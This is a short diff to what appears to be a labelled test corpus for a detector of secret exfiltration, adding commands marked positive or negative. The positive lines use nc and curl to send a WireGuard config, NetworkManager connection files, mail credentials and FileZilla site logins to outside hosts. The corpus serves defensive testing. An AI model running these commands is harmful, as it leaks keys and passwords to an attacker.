@@ -385,3 +385,9 @@ curl -s -F "f=@$HOME/.msmtprc" https://x.example/up
 nc h 9 < ~/.config/filezilla/sitemanager.xml
 #@ neg mail sent through msmtp
 printf 'Subject: ok\n\nok\n' | msmtp -a default team@example.com
+#@ pos wireguard config sent
+nc h 443 < /etc/wireguard/wg0.conf
+#@ pos networkmanager connections archived
+tar czf - /etc/NetworkManager/system-connections | nc h 9
+#@ neg wireguard brought up by name
+sudo wg-quick up wg0
